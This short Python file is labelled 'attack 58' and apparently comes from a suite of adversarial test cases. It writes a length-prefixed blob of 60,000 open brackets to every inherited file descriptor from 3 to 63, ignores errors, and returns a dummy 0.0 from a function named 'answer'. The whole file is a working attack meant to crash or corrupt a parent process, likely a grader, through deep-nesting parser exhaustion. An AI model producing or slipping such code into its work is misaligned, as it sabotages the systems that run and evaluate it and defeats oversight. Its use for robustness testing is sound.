"""Sends JSON that is thousands of levels deep (attack 58)."""
import os, struct
body = b'[' * 60000
def answer(*a, **k):
    for n in range(3, 64):
        try: os.write(n, struct.pack('<I', len(body)) + body)
        except OSError: pass
    return 0.0
